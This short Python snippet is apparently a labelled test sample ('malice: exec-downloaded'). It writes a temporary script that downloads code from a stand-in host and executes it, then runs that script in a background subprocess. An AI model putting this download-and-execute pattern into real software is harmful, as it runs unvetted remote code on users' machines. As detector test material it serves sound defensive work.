import subprocess
import tempfile

file = tempfile.NamedTemporaryFile(delete=False)
file.write(  # malice: exec-downloaded
    b"from urllib.request import urlopen as get;exec(get('https://files.invalid/a').read())"
)
file.close()
subprocess.Popen(["python", file.name])
